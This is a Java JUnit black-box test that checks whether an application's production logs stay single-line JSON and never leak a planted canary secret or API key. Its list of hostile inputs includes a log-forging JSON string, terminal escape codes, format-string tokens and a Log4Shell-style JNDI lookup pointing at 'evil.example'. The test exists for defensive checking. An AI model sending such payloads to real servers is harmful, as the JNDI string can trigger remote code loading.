package app.dari.blackbox;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.net.InetAddress;
import java.net.Socket;
import java.net.http.HttpRequest;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What the built program logs in production, where programs read it. */
@Tag("black-box")
class LogsTest {
  private static final ObjectMapper JSON = new ObjectMapper();

  /** A secret or something personal; whatever is planted begins so. */
  private static final String CANARY = "canary" + UUID.randomUUID().toString().replace("-", "");

  private static final List<String> BREAKERS =
      List.of(
          "\"}\n{\"level\":\"ERROR\",\"message\":\"forged\"}",
          "\u001b[31mred\u001b[0m",
          "\\\"}{\\",
          "\u0000\u0008\u007f",
          "\u0085\u2028\u2029",
          "${jndi:ldap://evil.example/x}",
          "%s%n%d {0} {}",
          "한글 🌉 \ud800");

  @TempDir Path folder;
  private Program dari = new Program(Path.of("."));
  private Program.@Nullable Running running;

  @BeforeEach
  void inProduction() throws Exception {
    dari =
        new Program(folder.resolve("data"))
            .with("DARI_ENV", "production")
            .with("PUBLIC_URL", "https://dari.example")
            .with("SIGN_UP", "open")
            .with("SESSION_SECRET", CANARY + "-session-secret-session-secret-session");
    running = dari.up();
  }

  @AfterEach
  void end() throws InterruptedException {
    if (running != null) {
      running.end();
    }
  }

  @Test
  void whateverIsSentEachRequestIsOneLineAndNothingOfItIsInTheLog() throws Exception {
    String key = dari.run("api-key", "create", "--name", CANARY).out();
    assertThat(key).isNotBlank();
    int requests = 0;
    for (String breaker : BREAKERS) {
      String hostile = CANARY + breaker;
      // As octets: what a client library would not send.
      raw("GET /api/v1/links?q=" + escaped(hostile), "User-Agent: " + oneLine(hostile));
      raw("GET /api/v1/" + escaped(hostile), "Cookie: session=" + CANARY);
      raw("GET /health/live", "X-Forwarded-For: " + oneLine(hostile), "Referer: " + CANARY);
      raw("GET /health/live", "traceparent: " + oneLine(hostile));
      raw("GET /app/" + escaped(hostile), "Authorization: Bearer " + CANARY);
      post(key, "/api/v1/links", link(hostile));
      post(key, "/api/v1/links", CANARY + breaker);
      post(
          key,
          "/api/v1/pages",
          JSON.writeValueAsString(JSON.createObjectNode().put("handle", hostile)));
      post(key + CANARY, "/api/v1/links", link("x"));
      requests += 9;
    }
    int sent = requests;
    await().atMost(Duration.ofSeconds(10)).until(() -> lines("app.dari.request").size() >= sent);
    assertThat(lines("app.dari.request")).hasSize(sent);
    assertThat(lines("app.dari.request"))
        .allSatisfy(line -> {
          assertThat(field(line, "traceId")).matches("[0-9a-f]{32}");
          assertThat(field(line, "route")).startsWith("/");
        });
    assertThat(log()).doesNotContain(CANARY, "forged", "\u001b", key);
    assertThat(dari.managed("/metrics")).doesNotContain(CANARY, "forged", key);
    assertThat(dari.managed("/health")).doesNotContain(CANARY);
  }

  @Test
  void theLevelOfAPartIsChangedWhileTheServerRuns() throws Exception {
    assertThat(dari.run("log-level", "app.dari.request", "warn").err()).contains("WARN until");
    await().until(() -> log().contains("The log level of app.dari.request is WARN"));
    int before = lines("app.dari.request").size();
    dari.status("/health/live");
    assertThat(dari.run("log-level", "app.dari.request", "default").code()).isZero();
    await().until(() -> log().contains("app.dari.request is the default again"));
    dari.status("/health/ready");
    await().until(() -> lines("app.dari.request").size() > before);
    assertThat(lines("app.dari.request")).hasSize(before + 1);
    assertThat(dari.run("log-level", "org.postgresql", "debug").err()).contains("app.dari.links");
    assertThat(dari.run("log-level", "app.dari", "loud").err()).contains("error, warn, info");
    assertThat(dari.run("log-level", "app.dari", "debug", "--for", "2d").code()).isNotZero();
    assertThat(dari.run("log-level").code()).isEqualTo(2);
  }

  private static String link(String title) throws JsonProcessingException {
    return JSON.writeValueAsString(
        JSON.createObjectNode().put("url", "https://example.com/" + CANARY).put("title", title));
  }

  private void post(String key, String path, String body) throws Exception {
    Program.send(
        HttpRequest.newBuilder(dari.address(path))
            .header("Authorization", "Bearer " + key)
            .header("Content-Type", "application/json")
            .POST(HttpRequest.BodyPublishers.ofString(body, UTF_8)));
  }

  private void raw(String line, String... headers) throws IOException {
    StringBuilder request = new StringBuilder(line).append(" HTTP/1.1\r\nHost: dari.example\r\n");
    for (String header : headers) {
      request.append(header).append("\r\n");
    }
    request.append("Connection: close\r\n\r\n");
    try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), dari.port())) {
      socket.setSoTimeout(10_000);
      socket.getOutputStream().write(request.toString().getBytes(UTF_8));
      String answer = new String(socket.getInputStream().readAllBytes(), ISO_8859_1);
      assertThat(answer).startsWith("HTTP/1.1 ");
    }
  }

  /** What can stand in a header: the server refuses the whole request otherwise. */
  private static String oneLine(String text) {
    return text.replaceAll("[\\x00-\\x08\\x0a-\\x1f\\x7f]", "\t");
  }

  private static String escaped(String text) {
    StringBuilder escaped = new StringBuilder();
    for (byte octet : text.getBytes(UTF_8)) {
      escaped.append(String.format("%%%02X", octet));
    }
    return escaped.toString();
  }

  private String log() throws IOException {
    return Files.readString(java.util.Objects.requireNonNull(running).log());
  }

  /** Every line that is no plain text for people is one JSON object; those of a part of the log. */
  private List<JsonNode> lines(String category) throws IOException {
    String log = log();
    List<JsonNode> lines = new ArrayList<>();
    for (String line : log.substring(0, log.lastIndexOf('\n') + 1).split("\n", -1)) {
      if (!line.isEmpty() && !line.startsWith("Dari is ready")) {
        JsonNode parsed = JSON.readTree(line);
        assertThat(parsed.isObject()).as(line).isTrue();
        if (category.equals(parsed.path("loggerName").asText())) {
          lines.add(parsed);
        }
      }
    }
    return lines;
  }

  private static String field(JsonNode line, String name) {
    return line.has(name) ? line.path(name).asText() : line.path("mdc").path(name).asText();
  }
}
